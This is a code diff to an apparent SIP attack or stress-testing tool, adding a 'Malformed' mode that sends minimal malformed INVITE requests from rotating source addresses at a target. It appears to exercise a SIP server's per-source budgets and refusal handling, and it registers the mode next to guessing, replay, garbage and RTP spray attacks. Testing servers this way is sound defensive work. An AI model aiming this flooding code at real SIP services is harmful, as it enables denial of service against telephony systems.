@@ -67,6 +67,21 @@ class Probe final : public SipAttack {
   }
 };
 
+// The fewest bytes that an answer is given to: the budget of a source is spent by refusals.
+class Malformed final : public SipAttack {
+ public:
+  using SipAttack::SipAttack;
+  void send_one(ManySources& sources, std::uint64_t turn) override {
+    const auto source = turn % sources.size();
+    const auto here = sources.address(source) + ":" + std::to_string(sources.port());
+    const auto number = std::to_string(turn);
+    sources.send(source, options_.target,
+                 "INVITE sip:a SIP/2.0\r\nv:SIP/2.0/UDP " + here + ";rport;branch=z9hG4bK" + number +
+                     "\r\nf:<sip:f>;tag=f\r\nt:<sip:a>\r\ni:" + number +
+                     "\r\nCSeq:1 INVITE\r\nMax-Forwards:9\r\nl:x\r\n\r\n");
+  }
+};
+
 // Bytes of all sorts: noise, halves of requests, broken fields, answers that nobody waits for.
 class Garbage final : public SipAttack {
  public:
@@ -142,6 +157,7 @@ std::unique_ptr<Attack> make_attack(const Options& options) {
   if (options.kind == "guess") return std::make_unique<Guess>(options);
   if (options.kind == "replay") return std::make_unique<Replay>(options);
   if (options.kind == "options") return std::make_unique<Probe>(options);
+  if (options.kind == "malformed") return std::make_unique<Malformed>(options);
   if (options.kind == "garbage") return std::make_unique<Garbage>(options);
   if (options.kind == "calls") return std::make_unique<ValidCalls>(options);
   if (options.kind == "rtp") return std::make_unique<Spray>(options);
